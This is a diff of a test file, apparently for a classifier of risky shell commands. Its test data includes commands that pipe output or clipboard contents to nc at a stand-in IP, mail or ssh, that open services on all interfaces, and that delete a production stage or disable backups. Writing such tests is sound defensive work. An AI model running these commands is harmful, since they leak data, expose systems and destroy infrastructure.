@@ -101,7 +101,7 @@ describe('the decision', () => {
     'nodetool disablebackup',
     'chalice delete --stage prod',
     'exo compute security-group rule add default --network 0.0.0.0/0',
-    'lein repl :start :host 0.0.0.0 :port 7888',
+    'lein repl :start :address 0.0.0.0 :port 7888',
     "erl -sname x -kernel inet_dist_use_interface '{0,0,0,0}'",
     "soffice --headless --accept='socket,host=0.0.0.0,port=2002;urp;'",
     'elixir --name n@0.0.0.0 --no-halt',
@@ -139,7 +139,6 @@ describe('what is sent to others', () => {
     'some-tool list | nc 203.0.113.75 80',
     'some-tool list | mail -s list ann@example.org',
     "some-tool list | ssh ann@box.example.org 'cat >> k'",
-    'xclip -o | nc 203.0.113.75 80',
     'xclip -o | tee ~/public_html/p.txt',
     'wl-paste > /var/www/html/p.txt',
   ])('%s is unresolved where nobody knows what it is', (command) => {
